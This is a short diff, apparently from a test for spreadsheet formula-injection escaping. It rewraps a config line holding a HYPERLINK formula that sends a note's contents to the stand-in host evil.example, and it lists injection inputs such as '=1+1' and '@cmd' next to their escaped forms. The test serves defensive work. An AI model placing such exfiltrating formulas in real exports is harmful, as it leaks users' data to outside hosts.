@@ -111,7 +111,8 @@ campaign: inj
 columns:
   - {name: note, kind: input}
   - {name: score, kind: input, type: BIGINT}
-  - {name: link, kind: formula, expression: "'=HYPERLINK(\\"http://evil.example/?q=' || note || '\\",\\"Click\\")'"}
+  - {name: link, kind: formula, expression: "'=HYPERLINK(\\"http://evil.example/?q=' || note ||
+  '\\",\\"Click\\")'"}
 """
 NOTES = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tTAB", "\rCR", "safe", "a=b", "", None]
 ESCAPED = ["'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tTAB", "'\rCR", "safe", "a=b", "", ""]
